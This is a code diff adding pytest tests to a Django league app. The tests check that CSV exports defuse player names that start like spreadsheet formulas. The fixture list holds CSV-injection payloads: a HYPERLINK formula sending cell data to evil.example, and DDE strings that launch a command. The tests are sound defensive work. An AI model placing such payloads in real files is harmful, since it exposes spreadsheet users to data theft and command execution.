@@ -277,3 +277,82 @@ def test_other_leagues_are_not_in_a_leagues_files(client, league, played, player
     assert len(rows(client.get("/leagues/tuesday/rounds.csv"))) == 5
     assert len(rows(client.get("/leagues/other/rounds.csv"))) == 1
     assert len(json.loads(client.get("/leagues/other/export.json").content)["matches"]) == 1
+
+
+# A spreadsheet runs a cell starting with = + - @ tab or CR as a formula (OWASP: CSV injection).
+FORMULA_NAMES = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.fixture
+def formula_players(league):
+    """A finished match of four whose players are named like formulas; the last to place
+    has a negative rating (OpenSkill's ordinal, μ − 3σ, after one match)."""
+    seated = [Player.objects.create(display_name=name) for name in FORMULA_NAMES[:4]]
+    match = Match.begin(league, seated, first_dealer=0, played_on=date(2026, 9, 1))
+    match.record_round(win(seated[0], SMALL_HAND, discarder=seated[1]))
+    match.record_round(win(seated[2], BIG_HAND, discarder=seated[3]))
+    assert match.is_finished
+    for name in FORMULA_NAMES[4:]:
+        league.players.add(Player.objects.create(display_name=name))
+    return seated
+
+
+@pytest.mark.django_db
+class TestFormulaInjection:
+    def test_standings_names_that_start_a_formula_are_written_as_text(
+        self, client, league, formula_players
+    ):
+        names = [row["player"] for row in rows(client.get("/leagues/tuesday/standings.csv"))]
+        assert sorted(names) == sorted("'" + name for name in FORMULA_NAMES)
+
+    def test_rounds_names_that_start_a_formula_are_written_as_text(
+        self, client, league, formula_players
+    ):
+        first, second = rows(client.get("/leagues/tuesday/rounds.csv"))
+        quoted = ["'" + name for name in FORMULA_NAMES[:4]]
+        assert (first["dealer"], first["winner"], first["discarder"]) == (
+            quoted[0],
+            quoted[0],
+            quoted[1],
+        )
+        assert (second["dealer"], second["winner"], second["discarder"]) == (
+            quoted[1],
+            quoted[2],
+            quoted[3],
+        )
+
+    def test_no_cell_of_either_file_starts_a_formula(self, client, league, formula_players):
+        for name in ("standings", "rounds"):
+            text = client.get(f"/leagues/tuesday/{name}.csv").content.decode("utf-8-sig")
+            cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+            dangerous = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
+            assert dangerous == [], name
+            # A minus is a number's sign, never a name's first character.
+            assert all(_is_number(c) for c in cells if c.startswith("-")), name
+
+    def test_negative_numbers_stay_numbers(self, client, league, formula_players):
+        ratings = [row["rating"] for row in rows(client.get("/leagues/tuesday/standings.csv"))]
+        assert all(_is_number(rating) for rating in ratings if rating)
+        assert min(float(rating) for rating in ratings if rating) < 0
+        assert any(rating.startswith("-") for rating in ratings)
+
+    def test_names_that_only_contain_such_characters_are_left_alone(self, client, league):
+        player = Player.objects.create(display_name="Anne-Marie = Ann @home")
+        league.players.add(player)
+        (row,) = rows(client.get("/leagues/tuesday/standings.csv"))
+        assert row["player"] == "Anne-Marie = Ann @home"
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
